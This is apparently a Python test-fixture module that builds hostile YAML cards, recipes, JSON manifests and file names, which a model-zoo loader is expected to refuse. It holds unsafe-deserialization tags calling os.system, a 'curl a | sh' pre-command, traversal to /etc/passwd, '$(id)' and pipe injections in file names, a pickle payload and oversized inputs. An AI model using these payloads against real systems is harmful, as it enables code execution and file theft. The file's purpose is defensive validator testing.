"""Hostile cards, recipes, manifests and names."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

# Text of a sound card and its replacement; each makes a card that is refused.
CARDS = {
    "python": ("title: Strand", "title: !!python/object/apply:os.system [id]\nx: Strand"),
    "tag": ("title: Strand", "title: !exec Strand"),
    "binary": ("seed: 1", "seed: !!binary aWQ="),
    "anchor": ("seed: 1", "seed: &a 1"),
    "alias": ("seed: 1", "seed: *a"),
    "merge": ("seed: 1", "<<: {seed: 1}"),
    "twice": ("seed: 1", "seed: 1\nseed: 2"),
    "tabs": ("seed: 1", "\tseed: 1"),
    "second": ("seed: 1", "seed: 1\n---\nseed: 2"),
    "deep": ("seed: 1", "seed: " + "[" * 20_000),
    "deep-blocks": ("seed: 1", "seed:\n  " + "- " * 20_000),
    "many": ("limits: [", "limits: [" + "a, " * 150_000),
    "aliases": ("limits: [", "limits: [" + "*a, " * 150_000),
    "large": ("limits: [", "limits: [" + "a" * 5_000_000 + ", "),
    "regions": ("test: [", "test: [" + "chrX, " * 90_000),
    "tracks": ("tracks:\n", "tracks:\n" + "  - {name: a}\n" * 20_000),
    "nul": ("title: Strand", 'title: "\0Strand"'),
    "code": ("seed: 1", "seed: 1\ncode: import os"),
    "loader": ("seed: 1", "seed: 1\ndataloader: zoo.py"),
    "yes": ("seed: 1", "seed: yes"),
    "text": ("seed: 1", 'seed: "1"'),
    "float": ("seed: 1", "seed: 1.0"),
    "negative": ("input_length: 64", "input_length: -64"),
    "zero": ("bin_size: 8", "bin_size: 0"),
    "no-bins": ("bin_size: 8", "bin_size: 7"),
    "long-number": ("input_length: 64", "input_length: " + "9" * 5_000),
    "nan": ("value: 0.51", "value: .nan"),
    "infinite": ("value: 0.51", "value: 1e999"),
    "unknown-base": ("unknown_base: 0.25", "unknown_base: 1e30"),
    "track-path": ("name: plus", "name: ../plus"),
    "track-escape": ("name: plus", 'name: "a\\e[31m"'),
    "track-comma": ("name: plus", 'name: "a,ID=b"'),
    "track-twice": ("name: plus", "name: minus"),
    "assembly": ("assembly: hg19", "assembly: ../hg19"),
    "version": ("version: 0.1.0", 'version: "0.1.0\\nx"'),
    "licence": ("licence: MIT", "licence: none of your business"),
    "local-url": ("https://www.encodeproject.org/files/plus.bw", "file:///etc/passwd"),
    "plain-url": ("https://www.encodeproject.org/files/plus.bw", "http://www.encodeproject.org/a"),
    "url-user": ("https://www.encodeproject.org/files/plus.bw", "https://a@b.org/c"),
    "url-break": ("https://www.encodeproject.org/files/plus.bw", '"https://b.org/a\\r\\nX: y"'),
    "sha256": ("sha256: fceafc", "sha256: FCEAFC"),
    "size": ("size: 2199555", "size: -1"),
    "weights-path": ("weights: null", "weights: {files: [{path: ../a, sha256: $, size: 1}]}"),
    "weights-absolute": ("weights: null", "weights: {files: [{path: /a, sha256: $, size: 1}]}"),
    "weights-hidden": ("weights: null", "weights: {files: [{path: .a, sha256: $, size: 1}]}"),
    "branch": ("weights: null", "weights: {hub: {repo: a/b, revision: main}}"),
    "revision-path": ("weights: null", "weights: {hub: {repo: a/b, revision: ../../etc}}"),
    "repo-path": ("weights: null", "weights: {hub: {repo: ../b, revision: %}}"),
    "repo-url": ("weights: null", "weights: {hub: {repo: 'https://a/b', revision: %}}"),
}

RECIPES = {
    "python": ("seed: 1", "seed: !!python/name:os.system"),
    "dotted-network": ("key: bpnet", "key: os.system"),
    "import-loss": ("key: poisson_nll", "key: __import__"),
    "windows": ("key: coverage_threshold", "key: ./windows.py"),
    "code": ("seed: 1", "seed: 1\npre_command: curl a | sh"),
    "path": ("file: toy/plus.bw", "file: ../../../etc/passwd"),
    "absolute": ("file: toy/plus.bw", "file: /etc/passwd"),
    "shell": ("file: toy/plus.bw", "file: $(id).bw"),
    "pipe": ("file: toy/plus.bw", 'file: "|id"'),
    "windows-path": ("file: toy/plus.bw", "file: C:\\\\plus.bw"),
    "url": ("https://www.encodeproject.org/files/plus.bw", "file:///etc/passwd"),
    "ftp": ("https://www.encodeproject.org/files/plus.bw", "ftp://a.org/plus.bw"),
    "genome": ("genome: {assembly: hg19}", "genome: {assembly: ../../hg19}"),
    "size": ("size: 2199555", "size: 1e400"),
    "batch": ("batch_size: 4", "batch_size: -4"),
    "deep": ("seed: 1", "seed: " + "{a: " * 20_000),
    "unknown": ("lr: 0.001", "lr: 0.001, class_path: torch.optim.Adam"),
}

NAMES = [
    *("../toy", "/etc/passwd", "..", ".", "", "toy/../toy", "toy\x00", "toy\n", "TOY", "CON:"),
    *("%2e%2e", "\u202etoy", "t\u043ey", "toy" * 99, "$(id)", "~", "*", "hf://a/b", "C:\\toy"),
]


def cards(base: str) -> Iterator[tuple[str, bytes]]:
    """Yield name and content of every hostile card; ``base`` is a sound one named ``toy``."""
    for name, (old, new) in CARDS.items():
        assert old in base, old
        text = base.replace(old, new, 1).replace("$", "0" * 64).replace("%", "0" * 40)
        if name.startswith(("weights", "branch", "revision", "repo")):
            text = text.replace("  weights: written by the test\n", "")
        yield name, text.encode()
    yield "no-text", base.encode().replace(b"Strand", b"\xff\xfe\xfd")
    yield "utf-16", base.encode("utf-16")
    yield "list", b"- a\n- b\n"
    yield "empty", b""
    yield "pickle", b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94."


def recipes(base: str) -> Iterator[tuple[str, bytes]]:
    """Yield name and content of every hostile recipe."""
    for name, (old, new) in RECIPES.items():
        assert old in base, old
        yield name, base.replace(old, new, 1).encode()


def manifests(sound: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    """Yield name and content of every hostile manifest; ``sound`` is one of the entry ``toy``."""
    digest = {"sha256": "0" * 64, "size": 1}
    for name, change in {
        "extra": {"loader": "os.system"},
        "schema": {"schema_version": 2},
        "name": {"name": "../toy"},
        "opset": {"opset": "20"},
        "digest": {"tensor_digest": "md5:1"},
        "no-files": {"files": {}},
        "path": {"files": sound["files"] | {"zoo/toy/../../a": digest}},
        "absolute": {"files": sound["files"] | {"/etc/passwd": digest}},
        "hidden": {"files": sound["files"] | {"zoo/toy/.a": digest}},
        "another": {"files": sound["files"] | {"zoo/other/model.onnx": digest}},
        "upper": {"files": sound["files"] | {"zoo/toy/a": digest | {"sha256": "A" * 64}}},
        "negative": {"files": sound["files"] | {"zoo/toy/a": digest | {"size": -1}}},
        "huge": {"files": sound["files"] | {"zoo/toy/a": digest | {"size": 2**40}}},
        "text": {"exporter": {"onnx": ["a"]}},
    }.items():
        yield name, json.dumps(sound | change).encode()
    whole = json.dumps(sound)
    yield "twice", ("{" + '"name": "other", ' + whole[1:]).encode()
    yield "nan", whole.replace('"opset": 20', '"opset": NaN').encode()
    yield "cut", whole[:-20].encode()
    yield "deep", b"[" * 200_000
    yield "large", (whole + " " * 2_000_000).encode()
    yield "long-number", whole.replace('"opset": 20', '"opset": ' + "9" * 9_000).encode()
    yield "empty", b""
    yield "no-text", b"\xff\xfe" + whole.encode()
